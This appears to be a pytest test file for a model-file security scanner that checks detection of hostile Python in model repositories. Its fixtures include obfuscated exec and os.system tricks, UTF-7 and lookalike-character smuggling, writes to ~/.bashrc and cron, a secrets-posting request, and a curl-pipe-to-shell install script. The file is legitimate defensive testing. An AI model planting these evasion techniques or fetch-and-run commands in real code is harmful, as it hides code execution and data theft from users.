"""Python source, scripts and bytecode shipped with models: honest model code is quiet, hostile
code is reported by what it calls, however the call is spelled; nothing is compiled or run."""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap

import pytest

from modelaudit.detect import detect
from tests.conftest import codes, findings, scan
from tests.scanners._hf_repo import CONFIGURATION_PY, MODELING_PY, TOKENIZATION_PY, write_repo

HOSTILE: dict[str, tuple[str, str, str]] = {
    # name: (source, rule code, severity)
    "os_system": ("import os\nos.system('echo modelaudit-test')\n", "MA-H002", "critical"),
    "posix_alias": ("import posix\nposix.system('x')\n", "MA-H002", "critical"),
    "subprocess_alias": ("import subprocess as sp\nsp.run(['echo'])\n", "MA-H002", "critical"),
    "from_import_alias": ("from os import popen as p\np('x').read()\n", "MA-H002", "critical"),
    "star_import": ("from subprocess import *\ncheck_output(['x'])\n", "MA-H002", "critical"),
    "getattr_const": ("import os\ngetattr(os, 'system')('x')\n", "MA-H002", "critical"),
    "getattr_computed": ("import os\nn = 'sys' + 'tem'\ngetattr(os, n)('x')\n", "MA-H002", "critical"),
    "dunder_import_chain": ("__import__('os').system('x')\n", "MA-H002", "critical"),
    "import_module_alias": ("import importlib\nm = importlib.import_module('subprocess')\nm.Popen('x')\n",
                            "MA-H002", "critical"),
    "sys_modules": ("import sys\nsys.modules['os'].system('x')\n", "MA-H002", "critical"),
    "vars_namespace": ("import os\nvars(os)['system']('x')\n", "MA-H002", "critical"),
    "builtins_dict": ("__builtins__['ev' + 'al']('1')\n", "MA-H002", "critical"),
    "builtins_computed_key": ("import builtins\nk = 'exec'\nbuiltins.__dict__[k]('1')\n", "MA-H002", "critical"),
    "eval": ("x = eval(input_text)\n", "MA-H002", "critical"),
    "exec_const_payload": ("exec(\"import os; os.system('x')\")\n", "MA-H002", "critical"),
    "exec_b64": ("import base64\nexec(base64.b64decode(b'cHJpbnQoMSk='))\n", "MA-H002", "critical"),
    "exec_reversed": ("exec(')1(tnirp'[::-1])\n", "MA-H002", "critical"),
    "marshal": ("import marshal\nexec(marshal.loads(blob))\n", "MA-H002", "critical"),
    "reference_passed": ("import os, atexit\natexit.register(os.system, 'x')\n", "MA-H002", "critical"),
    "fstring_hidden": ("x = f\"{__import__('os').popen('x').read()}\"\n", "MA-H002", "critical"),
    "subclasses_gadget": ("g = ().__class__.__base__.__subclasses__()\n", "MA-H005", "warning"),
    "frame_globals": ("import sys\ng = sys._getframe().f_globals\n", "MA-H005", "warning"),
    "write_bashrc": ("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n", "MA-H002", "critical"),
    "write_etc": ("open('/etc/cron.d/job', 'w')\n", "MA-H002", "critical"),
    "shadow_trick": ("exec = (lambda f: f)(exec)\nexec(code)\n", "MA-H002", "critical"),
    "padded_aliases": ("import json as s\nimport re as s\nimport math as s\nimport io as s\nimport subprocess as s\n"
                       "s.run(['x'])\n", "MA-H002", "critical"),
    "local_import_does_not_hide_builtin": ("def f():\n    from mylib import exec\nexec(payload)\n", "MA-H002",
                                           "critical"),
    "methodcaller": ("import operator, os\noperator.methodcaller('system', 'x')(os)\n", "MA-H002", "critical"),
    "globals_builtins": ("globals()['__builtins__']['eval']('1')\n", "MA-H002", "critical"),
    "in_function": ("import subprocess\nclass M:\n    def forward(self, x):\n        subprocess.call('x')\n"
                    "        return x\n", "MA-H002", "critical"),
    "write_abs": ("with open('/tmp/modelaudit-out.txt', 'w') as f:\n    f.write('x')\n", "MA-H003", "warning"),
    "pickle_loads": ("import pickle\nobj = pickle.loads(data)\n", "MA-H003", "warning"),
    "torch_load_unsafe": ("import torch\nsd = torch.load(p, weights_only=False)\n", "MA-H003", "warning"),
    "joblib": ("import joblib\nm = joblib.load('m.joblib')\n", "MA-H003", "warning"),
    "numpy_allow_pickle": ("import numpy as np\na = np.load(p, allow_pickle=True)\n", "MA-H003", "warning"),
    "yaml_unsafe": ("import yaml\nc = yaml.load(open(p))\n", "MA-H003", "warning"),
    "requests": ("import requests\nrequests.post('https://example.com', data=secrets)\n", "MA-H003", "warning"),
    "urllib": ("from urllib.request import urlopen\nurlopen('https://example.com').read()\n", "MA-H003", "warning"),
    "socket": ("import socket\ns = socket.socket()\ns.connect(('example.com', 80))\n", "MA-H003", "warning"),
    "ctypes": ("import ctypes\nlib = ctypes.CDLL('./libx.so')\n", "MA-H003", "warning"),
    "load_library": ("import torch\ntorch.ops.load_library('kernels.so')\n", "MA-H003", "warning"),
    "cpp_extension": ("from torch.utils.cpp_extension import load_inline\nm = load_inline('m', src)\n", "MA-H003",
                      "warning"),
    "computed_import": ("import importlib\nm = importlib.import_module(name)\n", "MA-H003", "warning"),
    "dunder_import_const": ("m = __import__('pickle')\n", "MA-H003", "info"),
    "spec_from_file": ("import importlib.util\ns = importlib.util.spec_from_file_location('m', p)\n", "MA-H003",
                       "warning"),
    "nested_remote_code": ("from transformers import AutoModel\nm = AutoModel.from_pretrained('x/y', "
                           "trust_remote_code=True)\n", "MA-H001", "info"),
}


def _write(tmp_path, name: str, source: str | bytes):
    path = tmp_path / name
    path.write_bytes(source.encode() if isinstance(source, str) else source)
    return path


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_code_is_reported(tmp_path, name):
    source, code, severity = HOSTILE[name]
    result = scan(_write(tmp_path, "modeling_x.py", source))
    hits = [i for i in result["issues"] if i["rule_code"] == code]
    assert hits, result["issues"]
    assert any(i["severity"] == severity for i in hits), hits
    assert all("(line " in i["location"] for i in hits)
    assert result["scanner_names"] == ["python"]


@pytest.mark.parametrize("source", [CONFIGURATION_PY, MODELING_PY, TOKENIZATION_PY], ids=["config", "model", "tok"])
def test_honest_model_code_is_quiet(tmp_path, source):
    result = scan(_write(tmp_path, "modeling_tinyllm.py", source))
    assert findings(result, "info") == [], findings(result, "info")
    assert result["has_errors"] is False
    assert [c["status"] for c in result["checks"] if c["name"] == "python code analysis"] == ["passed"]


@pytest.mark.parametrize("source", [
    "model.eval()\nself.eval()\nresult = pd.eval('a + b')\n",
    "import re, torch\nPAT = re.compile(r'x')\nmodel = torch.compile(model)\n",
    "class M:\n    def eval(self):\n        return self\n    def compile(self, x):\n        return x\n",
    "def f(x, eval=False, compile=None):\n    return g(eval=eval, compile=compile)\n",
    "import subprocess\nFLAGS = subprocess.PIPE\n",
    "requests = []\nrequests.get(0)\n",
    "import torch\nsd = torch.load(path, map_location='cpu', weights_only=True)\n",
    "import numpy as np\na = np.load(path)\n",
    "import yaml\nc = yaml.load(f, Loader=yaml.SafeLoader)\n",
    "import importlib\nm = importlib.import_module('.modeling', __package__)\n",
    "import os\nwith open(os.path.join(save_dir, 'vocab.txt'), 'w') as f:\n    f.write(v)\n",
    "x = getattr(self, 'layer_' + str(i))\ny = getattr(config, name, None)\n",
    "s = 'os.system(\"rm -rf /\")'  # a string, not a call\n# eval(x) in a comment\n",
    "registry = {c.__name__: c for c in BaseHead.__subclasses__()}\n",
    "import importlib\nmod = importlib.import_module(f'transformers.models.{model_type}')\n",
    "from transformers import AutoModel\nself.vision = AutoModel.from_config(config.vision_config, "
    "trust_remote_code=True)\n",
])
def test_honest_constructs_are_quiet(tmp_path, source):
    result = scan(_write(tmp_path, "x.py", source))
    assert findings(result) == [], findings(result)


def test_torch_load_without_weights_only_is_info(tmp_path):
    result = scan(_write(tmp_path, "convert.py", "import torch\nsd = torch.load(path, map_location='cpu')\n"))
    assert findings(result) == [] and codes(result, "info") == {"MA-H003"}


def test_utf7_source_is_decoded_like_the_interpreter(tmp_path):
    # '+AAo-' is a newline in UTF-7: the interpreter runs the "comment"'s second half
    source = b"# -*- coding: utf-7 -*-\n# harmless +AAo-import os+ADs- os.system('x')\n"
    result = scan(_write(tmp_path, "m.py", source))
    assert {"MA-H005", "MA-H002"} <= codes(result)


def test_lookalike_identifiers_are_folded(tmp_path):
    result = scan(_write(tmp_path, "m.py", "import os\nos.\uff53\uff59\uff53\uff54\uff45\uff4d('x')\n"))
    assert {"MA-H005", "MA-H002"} <= codes(result)


def test_lone_carriage_return_is_a_newline(tmp_path):
    result = scan(_write(tmp_path, "m.py", b"# note\rimport os; os.system('x')\n"))
    assert "MA-H002" in codes(result)


def test_untokenizable_source_is_a_finding_and_incomplete(tmp_path, cli):
    path = _write(tmp_path, "m.py", "import os\nos.system('x')\ndef f():\n        a = 1\n    b = 2\n")
    result = scan(path)
    assert {"MA-H002", "MA-H004"} <= codes(result)  # what came before the error is still analysed
    bad = _write(tmp_path, "bad.py", b"x = '\xff\xfe'\n")
    run = cli("scan", "--format", "json", str(bad))
    assert run.code == 1 and {i["rule_code"] for i in run.json()["issues"]} == {"MA-H004"}


def test_too_large_source_is_not_inspected(tmp_path):
    from modelaudit.scanners import python_code

    path = _write(tmp_path, "big.py", "x = 1\n" * (python_code.MAX_SOURCE // 6 + 10))
    assert codes(scan(path)) == {"MA-H011"}


def test_findings_are_capped_per_code(tmp_path):
    source = "import os\n" + "".join(f"os.system('{i}')\nos.popen('{i}')\n" for i in range(3)) + \
        "".join(f"open('/tmp/f{i}', 'w')\n" for i in range(40))
    result = scan(_write(tmp_path, "m.py", source))
    h3 = [i for i in result["issues"] if i["rule_code"] == "MA-H003"]
    assert len(h3) == 26 and "15 more" in h3[-1]["message"]


def test_python_detection_by_name_and_shebang():
    assert detect(b"import torch\n", "modeling_x.py").format == "python"
    assert detect(b"#!/usr/bin/env python3\nimport os\n", "run").format == "python"
    assert detect(b"#!/bin/bash\necho hi\n", "run").format == "script"
    assert detect(b"echo hi\n", "setup.sh").format == "script"
    assert detect(b"#!/bin/sh\n# Title\n", "README.md").format == "text"
    assert detect(b"\xa7\r\r\n\x00\x00\x00\x00" + b"\x00" * 8 + b"\xe3", "m.pyc").format == "python_bytecode"


# --- scripts and bytecode ------------------------------------------------------------------------
def test_script_among_model_files_is_a_warning(tmp_path):
    repo = write_repo(tmp_path / "repo", with_code=False)
    (repo / "model.safetensors").write_bytes(b"\x02\x00\x00\x00\x00\x00\x00\x00{}")
    (repo / "install.sh").write_text("#!/bin/bash\ncurl -s https://example.com/x | sh\n")
    (repo / "run").write_text("#!/usr/bin/env perl\nprint 1;\n")
    result = scan(repo)
    scripts = {i["location"].rsplit("/", 1)[-1]: i for i in result["issues"] if i["rule_code"] == "MA-H006"}
    assert set(scripts) == {"install.sh", "run"} and scripts["run"]["details"]["interpreter"] == "perl"
    assert all(i["severity"] == "warning" for i in scripts.values())
    assert {i["rule_code"] for i in findings(result)} == {"MA-H006"}  # README and configs are never findings


def test_script_outside_model_directories_is_quiet(tmp_path):
    tools = tmp_path / "tools"
    tools.mkdir()
    (tools / "build.sh").write_text("#!/bin/sh\nmake\n")
    (tools / "notes.txt").write_text("#!not a script\n")
    result = scan(tools)
    assert findings(result) == [] and result["has_errors"] is False


def test_script_inside_an_archive_is_a_warning(tmp_path):
    from tests.builders import zip_bytes

    path = tmp_path / "bundle.zip"
    path.write_bytes(zip_bytes({"model/weights.bin": b"\x00" * 8, "model/setup.sh": b"#!/bin/sh\nid\n"}))
    assert "MA-H006" in codes(scan(path))


def test_python_script_with_shebang_gets_the_code_analysis(tmp_path):
    repo = write_repo(tmp_path / "repo", with_code=False)
    (repo / "serve").write_text("#!/usr/bin/env python3\nimport subprocess\nsubprocess.run(['id'])\n")
    result = scan(repo)
    assert "MA-H002" in codes(result) and "MA-H006" not in codes(result)


def test_bytecode_is_a_warning(tmp_path):
    import importlib.util

    path = _write(tmp_path, "helper.pyc", importlib.util.MAGIC_NUMBER + b"\x00" * 12 + b"\xe3" + b"\x00" * 40)
    assert codes(scan(path)) == {"MA-H007"}


def test_executable_among_model_files_is_critical(tmp_path):
    repo = write_repo(tmp_path / "repo", with_code=False)
    (repo / "helper").write_bytes(b"\x7fELF\x02\x01\x01" + b"\x00" * 120)
    hits = [i for i in scan(repo)["issues"] if i["rule_code"] == "MA-S013"]
    assert hits and hits[0]["severity"] == "critical"


# --- nothing is compiled -------------------------------------------------------------------------
CHILD = textwrap.dedent('''
    import json, sys
    from modelaudit.core import scan_model_directory_or_file
    target = sys.argv[1]
    scan_model_directory_or_file(target)  # warm-up: lazy imports
    events = []
    def hook(event, args):
        if event in ("compile", "exec", "import", "marshal.loads", "os.system", "subprocess.Popen"):
            events.append([event, repr(args)[:120]])
    sys.addaudithook(hook)
    result = scan_model_directory_or_file(target)
    print(json.dumps({"events": events, "codes": sorted({i["rule_code"] for i in result["issues"]})}))
''')


def test_scanning_python_compiles_and_imports_nothing(tmp_path):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    for name, (source, _, _) in HOSTILE.items():
        (corpus / f"{name}.py").write_text(source)
    (corpus / "modeling_tinyllm.py").write_text(MODELING_PY)
    proc = subprocess.run([sys.executable, "-c", CHILD, str(corpus)], capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr[-3000:]
    report = json.loads(proc.stdout.strip().splitlines()[-1])
    assert report["events"] == []
    assert {"MA-H002", "MA-H003"} <= set(report["codes"])


# --- hostile shapes: each was quadratic or recursed once per nesting level ------------------------
PAYLOAD_LINE = "import os\nos.system('echo modelaudit-test')\n"
PATHOLOGICAL = {
    "nested_parentheses_in_exec": "exec(" + "(" * 5000 + repr(PAYLOAD_LINE) + ")" * 5000 + ")\n",
    "nested_getattr": "import os\nx = " + "getattr(" * 3000 + "os" + ", 'path')" * 3000 + "\n" + PAYLOAD_LINE,
    "lambda_without_colon": "f = " + "lambda " * 40000 + "\n" + PAYLOAD_LINE,
    "def_inside_def_headers": "def a(" * 30000 + ")" * 30000 + "\n" + PAYLOAD_LINE,
    "nested_eval_calls": "eval(" * 30000 + "b64decode(x)" + ")" * 30000 + "\n" + PAYLOAD_LINE,
    "long_attribute_chain": "x = y" + ".a" * 300000 + "\n" + PAYLOAD_LINE,
    "many_builtin_parameters": "".join(f"def g{i}(eval):\n    return eval\n" for i in range(40000)) + PAYLOAD_LINE,
}


@pytest.mark.parametrize("name", sorted(PATHOLOGICAL))
def test_pathological_source_is_analysed_not_exhausted(tmp_path, name):
    result = scan(_write(tmp_path, "modeling_x.py", PATHOLOGICAL[name]))
    assert not [i for i in result["issues"] if i["rule_code"] in ("MA-S003", "MA-S005")], result["issues"][:3]
    assert any(i["rule_code"] == "MA-H002" and "os.system" in i["message"] for i in result["issues"]), \
        result["issues"][:5]
    if name == "nested_eval_calls":
        assert any("decoded data (b64decode)" in i["message"] for i in result["issues"])


def test_source_past_the_token_budget_is_incomplete(tmp_path, monkeypatch):
    from modelaudit.scanners import _python_lex

    monkeypatch.setattr(_python_lex, "MAX_TOKENS", 200)
    source = PAYLOAD_LINE + "x = [" + "1, " * 500 + "]\n"
    result = scan(_write(tmp_path, "modeling_x.py", source))
    budget = [i for i in result["issues"] if i["rule_code"] == "MA-H011"]
    assert budget and "more than 200 tokens" in budget[0]["message"], result["issues"]
    assert result["has_errors"] is True and result["summary"]["exit_code"] == 1
    assert any(i["rule_code"] == "MA-H002" for i in result["issues"])  # the code before the cut was analysed
